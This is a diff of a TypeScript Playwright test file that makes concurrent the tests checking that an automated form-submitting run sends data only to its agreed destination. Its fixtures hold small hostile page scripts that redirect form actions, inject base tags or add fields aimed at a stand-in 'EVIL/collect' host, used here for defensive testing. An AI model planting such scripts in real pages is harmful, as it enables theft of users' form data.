@@ -1,7 +1,7 @@
 /** A page may change anything while a run sends its form, and nothing else is sent: the servers' logs prove it. */
 
 import type { Page } from 'playwright';
-import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import { afterAll, test as base, beforeAll, describe, expect } from 'vitest';
 import type { Outcome, Step, Submission } from '../../../../lib/model/index.ts';
 import type { PageRun } from '../../../../lib/page/act/execute.ts';
 import { fromPage } from '../../../../lib/run/answer/page-outcome.ts';
@@ -19,46 +19,71 @@ interface Exchange {
   readonly body: string;
 }
 
-let page: Page;
+/** A tab, the page that the shop has for it, and what either server was sent by it. */
+interface Tab {
+  readonly page: Page;
+  markup: string;
+  log: Exchange[];
+  elsewhere: Exchange[];
+}
+
 let script: string;
 let shop: Site;
 let evil: Site;
-let markup = '';
-let log: Exchange[] = [];
-let elsewhere: Exchange[] = [];
+/** By the name of its browser, which each request gives. */
+const tabs = new Map<string, Tab>();
+let opened = 0;
+/** Requests that name no tab: no test would see them. */
+const strays: Exchange[] = [];
+/** Tabs that no test has. Most of a run is waiting: several go side by side. */
+const free: Tab[] = [];
 
-const server = (into: () => Exchange[]) =>
+const server = (of: 'log' | 'elsewhere') =>
   serve((request, response) => {
+    const tab = tabs.get(request.headers['user-agent'] ?? '');
     let body = '';
     request.on('data', (chunk) => {
       body += chunk;
     });
     request.on('end', () => {
       const path = request.url ?? '';
-      if (path !== '/favicon.ico') into().push({ method: request.method ?? '', path, body });
+      if (path !== '/favicon.ico') (tab?.[of] ?? strays).push({ method: request.method ?? '', path, body });
       response.setHeader('content-type', 'text/html; charset=utf-8');
-      const html = path === '/' && request.method === 'GET' ? markup : '<ul class=results><li>done';
+      const html = path === '/' && request.method === 'GET' ? tab?.markup : '<ul class=results><li>done';
       response.end(`<!doctype html><title>Shop</title>${html}`);
     });
   });
 
 beforeAll(async () => {
-  [page, script, shop, evil] = await Promise.all([
-    openPage(),
+  [script, shop, evil] = await Promise.all([
     bundle('lib/page/act/execute.ts', 'lens'),
-    server(() => log),
-    server(() => elsewhere),
+    server('log'),
+    server('elsewhere'),
   ]);
 }, 60_000);
 afterAll(async () => {
-  await page.close();
+  for (const { page } of free) await page.close();
   await shop.close();
   await evil.close();
+  expect(strays).toEqual([]);
 });
-// Whatever a test has left under way, in its page or in a window that it opened, is not the next one's.
-afterEach(async () => {
-  for (const other of page.context().pages()) if (other !== page) await other.close();
-  await page.goto('about:blank');
+
+async function openTab(): Promise<Tab> {
+  const userAgent = `tab ${opened++}`;
+  const tab: Tab = { page: await openPage({ userAgent }), markup: '', log: [], elsewhere: [] };
+  tabs.set(userAgent, tab);
+  return tab;
+}
+
+const test = base.extend<{ tab: Tab }>({
+  async tab({ task: _ }, use) {
+    const tab = free.pop() ?? (await openTab());
+    await use(tab);
+    // Whatever a test has left under way, in its page or in a window that it opened, is not the next one's.
+    for (const other of tab.page.context().pages()) if (other !== tab.page) await other.close();
+    await tab.page.goto('about:blank');
+    free.push(tab);
+  },
 });
 
 const POST: Submission & { kind: 'form' } = {
@@ -86,12 +111,12 @@ const STEPS = (expects: Submission, trigger = '#f'): readonly Step[] => [
  * @param meanwhile what the page does while the run waits to be let on: the background's answer takes its time
  * @returns how it ended; null where the page was left, as it was agreed to
  */
-async function run(of: string, steps: readonly Step[], meanwhile = ''): Promise<Outcome | null> {
-  markup = of.replaceAll('EVIL', evil.origin);
+async function run(tab: Tab, of: string, steps: readonly Step[], meanwhile = ''): Promise<Outcome | null> {
+  const { page } = tab;
+  tab.markup = of.replaceAll('EVIL', evil.origin);
   await page.goto(`${shop.origin}/`);
   await page.evaluate(script);
-  log = [];
-  elsewhere = [];
+  Object.assign(tab, { log: [], elsewhere: [] });
   const plan: PageRun['plan'] = {
     kind: 'page',
     url: `${shop.origin}/`,
@@ -151,22 +176,22 @@ function filling(of: string, expects: Submission): readonly Step[] {
 }
 const FIELD = `const field = form.appendChild(document.createElement('input')); field.name = 'evil'; field.value = 1;`;
 
-describe('a filled field keeps its value to the last', () => {
-  test.each([
+describe.concurrent('a filled field keeps its value to the last', () => {
+  test.for<[string, string]>([
     ['as the form is sent', onSubmit("form.elements.namedItem('name').value = 'Eve'")],
     ['as its fields are listed', onFormdata("event.formData.set('name', 'Eve')")],
     ['where an editor writes it only then', editor("'Eve'")],
-  ])('%s', async (_name, of) => {
-    expect(await run(of, filling(of, POST))).toMatchObject({
+  ])('%s', async ([_name, of], { tab }) => {
+    expect(await run(tab, of, filling(of, POST))).toMatchObject({
       code: 'destination-changed',
       message: expect.stringContaining('“name” is “Eve”, not “Ada”'),
     });
-    expect(log).toEqual([]);
+    expect(tab.log).toEqual([]);
   });
 });
 
-describe('what was agreed to is sent', () => {
-  test.each<[name: string, markup: string, expects: Submission, sent: readonly Partial<Exchange>[]]>([
+describe.concurrent('what was agreed to is sent', () => {
+  test.for<[name: string, markup: string, expects: Submission, sent: readonly Partial<Exchange>[]]>([
     ['a POST', FORM, POST, [{ method: 'POST', path: '/order', body: 'name=Ada&token=1' }]],
     [
       'what an editor writes as its form is sent',
@@ -239,54 +264,58 @@ describe('what was agreed to is sent', () => {
       POST,
       [{ method: 'POST', path: '/order' }],
     ],
-  ])('%s', async (name, of, expects, sent) => {
+  ])('%s', async ([name, of, expects, sent], { tab }) => {
     const shown = name.includes('looks') ? of.replace('<button>', '<button name=by value=1>') : of;
-    expect(await run(shown, filling(shown, expects))).toBeNull();
-    await expect.poll(() => log).toMatchObject(sent);
-    expect(elsewhere).toEqual([]);
+    expect(await run(tab, shown, filling(shown, expects))).toBeNull();
+    await expect.poll(() => tab.log).toMatchObject(sent);
+    expect(tab.elsewhere).toEqual([]);
   });
 
-  test('a link', async () => {
+  test('a link', async ({ tab }) => {
     const expects: Submission = { kind: 'link', url: '/out?a=1', target: '' };
     const steps = STEPS(expects, 'a').slice(1);
-    expect(await run('<a href="/out?a=1">Out</a>', steps)).toBeNull();
-    await expect.poll(() => log).toMatchObject([{ method: 'GET', path: '/out?a=1' }]);
+    expect(await run(tab, '<a href="/out?a=1">Out</a>', steps)).toBeNull();
+    await expect.poll(() => tab.log).toMatchObject([{ method: 'GET', path: '/out?a=1' }]);
   });
 });
 
-describe('a page that takes it over itself stays on its site, and that is noted', () => {
+describe.concurrent('a page that takes it over itself stays on its site, and that is noted', () => {
   const HANDLED = 'The page’s own script handled the form.';
-  test('with a request of its own', async () => {
+  test('with a request of its own', async ({ tab }) => {
     const outcome = await run(
+      tab,
       onSubmit(
         "event.preventDefault(); fetch('/api', { method: 'POST', body: new FormData(form) }).then(() => { document.title = 'Done'; document.body.append('Done') })",
       ),
       STEPS(POST),
     );
     expect(outcome).toMatchObject({ ok: true, notes: [HANDLED] });
-    expect(log).toMatchObject([{ method: 'POST', path: '/api' }]);
+    expect(tab.log).toMatchObject([{ method: 'POST', path: '/api' }]);
   });
-  test('and leads on', async () => {
-    expect(await run(onSubmit("event.preventDefault(); location.href = '/thanks'"), STEPS(POST))).toBeNull();
-    await expect.poll(() => log).toMatchObject([{ method: 'GET', path: '/thanks' }]);
+  test('and leads on', async ({ tab }) => {
+    expect(
+      await run(tab, onSubmit("event.preventDefault(); location.href = '/thanks'"), STEPS(POST)),
+    ).toBeNull();
+    await expect.poll(() => tab.log).toMatchObject([{ method: 'GET', path: '/thanks' }]);
   });
-  test('and changes its address only', async () => {
+  test('and changes its address only', async ({ tab }) => {
     const code =
       "event.preventDefault(); history.pushState(null, '', '/find?name=Ada'); document.body.append('Done')";
-    expect(await run(onSubmit(code), STEPS(POST))).toMatchObject({ ok: true, notes: [HANDLED] });
+    expect(await run(tab, onSubmit(code), STEPS(POST))).toMatchObject({ ok: true, notes: [HANDLED] });
   });
-  test('but leads nowhere else', async () => {
+  test('but leads nowhere else', async ({ tab }) => {
     const outcome = await run(
+      tab,
       onSubmit("event.preventDefault(); location.href = 'EVIL/collect'"),
       STEPS(POST),
     );
     expect(outcome).toMatchObject({ ok: false, code: 'destination-changed' });
-    expect(elsewhere).toEqual([]);
+    expect(tab.elsewhere).toEqual([]);
   });
 });
 
-describe('stops before the request', () => {
-  test.each<[name: string, markup: string, message: RegExp]>([
+describe.concurrent('stops before the request', () => {
+  test.for<[name: string, markup: string, message: RegExp]>([
     [
       'another action in its submit listener',
       onSubmit("form.action = 'EVIL/x'"),
@@ -378,8 +407,8 @@ describe('stops before the request', () => {
       withScript("form.addEventListener('input', () => { form.action = 'EVIL/x' })"),
       /goes to/,
     ],
-  ])('%s', async (name, of, message) => {
-    const outcome = await run(of, STEPS(POST));
+  ])('%s', async ([name, of, message], { tab }) => {
+    const outcome = await run(tab, of, STEPS(POST));
     // A change by a listener that comes after ours is prevented, rather than noticed.
     if (/last/.test(name)) expect(outcome).toBeNull();
     else {
@@ -389,15 +418,18 @@ describe('stops before the request', () => {
         message: expect.stringMatching(message),
         next: expect.any(String),
       });
-      expect(log).toEqual([]);
+      expect(tab.log).toEqual([]);
     }
-    await page.waitForTimeout(200);
-    expect(elsewhere).toEqual([]);
-    expect(log.filter(({ body }) => body.includes('evil'))).toEqual([]);
+    await tab.page.waitForTimeout(200);
+    expect(tab.elsewhere).toEqual([]);
+    expect(tab.log.filter(({ body }) => body.includes('evil'))).toEqual([]);
   });
 
-  test('a new window by form.submit(), which Chromium opens all the same, gets nothing of the form', async () => {
+  test('a new window by form.submit(), which Chromium opens all the same, gets nothing of the form', async ({
+    tab,
+  }) => {
     const outcome = await run(
+      tab,
       onSubmit("event.preventDefault(); form.target = '_blank'; form.action = 'EVIL/x'; form.submit()"),
       STEPS(POST),
     );
@@ -405,30 +437,30 @@ describe('stops before the request', () => {
       code: 'destination-changed',
       message: expect.stringContaining('opens in “_blank”'),
     });
-    await page.waitForTimeout(300);
+    await tab.page.waitForTimeout(300);
     // The background blocks the request itself.
-    expect(elsewhere.map(({ body }) => body).join('')).toBe('');
-    expect(log).toEqual([]);
+    expect(tab.elsewhere.map(({ body }) => body).join('')).toBe('');
+    expect(tab.log).toEqual([]);
   });
 
-  test.each([
+  test.for<[string, string]>([
     ['its action', "form.action = 'EVIL/x'"],
     ['its base', "document.head.insertAdjacentHTML('beforeend', '<base href=EVIL/>')"],
     ['its method', "form.method = 'get'"],
     ['a field', FIELD],
     ['its target', "form.target = 'inner'"],
     ['the whole form', 'form.outerHTML = form.outerHTML.replace("order", "EVIL/x")'],
-  ])('%s swapped while the background is asked', async (_, code) => {
+  ])('%s swapped while the background is asked', async ([_, code], { tab }) => {
     const swap = `{ const form = document.querySelector('#f'); ${code.replaceAll('EVIL', evil.origin)} }`;
-    const outcome = await run(FORM.replace('action=/order', 'action=order'), STEPS(POST), swap);
+    const outcome = await run(tab, FORM.replace('action=/order', 'action=order'), STEPS(POST), swap);
     expect(outcome).toMatchObject({
       ok: false,
       code: expect.stringMatching(/^(?:destination-changed|not-runnable)$/),
     });
-    expect([...log, ...elsewhere]).toEqual([]);
+    expect([...tab.log, ...tab.elsewhere]).toEqual([]);
   });
 
-  test.each<[name: string, markup: string, expects: Submission]>([
+  test.for<[name: string, markup: string, expects: Submission]>([
     ['a link that leads elsewhere', '<a id=f href=EVIL/x>Out</a>', { kind: 'link', url: '/out', target: '' }],
     [
       'a link that is one to elsewhere when it is clicked',
@@ -457,55 +489,55 @@ describe('stops before the request', () => {
       '<iframe srcdoc="<form method=post action=EVIL/x></form>"></iframe><button id=f onclick="frames[0].document.forms[0].target = \'_top\'; frames[0].document.forms[0].submit()">Go</button>',
       { kind: 'script' },
     ],
-  ])('%s', async (_, of, expects) => {
-    const outcome = await run(of, STEPS(expects).slice(1));
+  ])('%s', async ([_, of, expects], { tab }) => {
+    const outcome = await run(tab, of, STEPS(expects).slice(1));
     expect(outcome).toMatchObject({ ok: false, code: 'destination-changed' });
-    await page.waitForTimeout(200);
-    expect([...log, ...elsewhere]).toEqual([]);
+    await tab.page.waitForTimeout(200);
+    expect([...tab.log, ...tab.elsewhere]).toEqual([]);
   });
 
-  test('in a frame of the page', async () => {
+  test('in a frame of the page', async ({ tab }) => {
     const inner = `<form id=f method=post action=/order>${FIELDS}<button>Order</button></form><script>document.forms[0].onsubmit = () => { document.forms[0].action = 'EVIL/x' }</script>`;
     const steps = STEPS(POST).map((step) => ('selector' in step ? { ...step, within: ['iframe'] } : step));
-    const outcome = await run(`<iframe srcdoc="${inner.replaceAll('"', "'")}"></iframe>`, steps);
+    const outcome = await run(tab, `<iframe srcdoc="${inner.replaceAll('"', "'")}"></iframe>`, steps);
     expect(outcome).toMatchObject({ ok: false, code: 'destination-changed' });
-    expect([...log, ...elsewhere]).toEqual([]);
+    expect([...tab.log, ...tab.elsewhere]).toEqual([]);
   });
 
-  test('and leaves the page as it was', async () => {
-    await run(onFormdata("form.target = '_blank'"), STEPS(POST));
-    expect(await page.evaluate(() => document.querySelector('#f')?.nextElementSibling?.tagName)).toBe(
+  test('and leaves the page as it was', async ({ tab }) => {
+    await run(tab, onFormdata("form.target = '_blank'"), STEPS(POST));
+    expect(await tab.page.evaluate(() => document.querySelector('#f')?.nextElementSibling?.tagName)).toBe(
       'IFRAME',
     );
-    await page.evaluate(() => {
+    await tab.page.evaluate(() => {
       const form = document.querySelector<HTMLFormElement>('#f')!;
       form.target = '';
       form.action = '/later';
       form.submit();
     });
-    await page.waitForURL('**/later');
-    expect(log).toMatchObject([{ method: 'POST', path: '/later' }]);
+    await tab.page.waitForURL('**/later');
+    expect(tab.log).toMatchObject([{ method: 'POST', path: '/later' }]);
   });
 });
 
-describe('acts on exactly what was planned', () => {
+describe.concurrent('acts on exactly what was planned', () => {
   const TWO = `<form id=g action=/other method=post><input name=name><button>No</button></form>${FORM}`;
-  test('not on what is nearest', async () => {
+  test('not on what is nearest', async ({ tab }) => {
     const steps = STEPS(POST).map((step) =>
       step.kind === 'fill' ? { ...step, path: '#f > [name=name]' } : step,
     );
-    expect(await run(TWO, steps)).toBeNull();
-    await expect.poll(() => log).toMatchObject([{ path: '/order', body: 'name=Ada&token=1' }]);
+    expect(await run(tab, TWO, steps)).toBeNull();
+    await expect.poll(() => tab.log).toMatchObject([{ path: '/order', body: 'name=Ada&token=1' }]);
   });
-  test('finds it again where the page has moved it', async () => {
+  test('finds it again where the page has moved it', async ({ tab }) => {
     const steps = STEPS(POST).map((step) =>
       step.kind === 'fill' ? { ...step, path: 'body > :nth-child(9)' } : step,
     );
-    expect(await run(TWO, steps)).toBeNull();
-    await expect.poll(() => log).toMatchObject([{ path: '/order', body: 'name=Ada&token=1' }]);
+    expect(await run(tab, TWO, steps)).toBeNull();
+    await expect.poll(() => tab.log).toMatchObject([{ path: '/order', body: 'name=Ada&token=1' }]);
   });
-  test('and says so where it is gone', async () => {
-    const outcome = await run('<p>Sold out', STEPS(POST).slice(1));
+  test('and says so where it is gone', async ({ tab }) => {
+    const outcome = await run(tab, '<p>Sold out', STEPS(POST).slice(1));
     expect(outcome).toMatchObject({
       ok: false,
       code: 'page-changed',
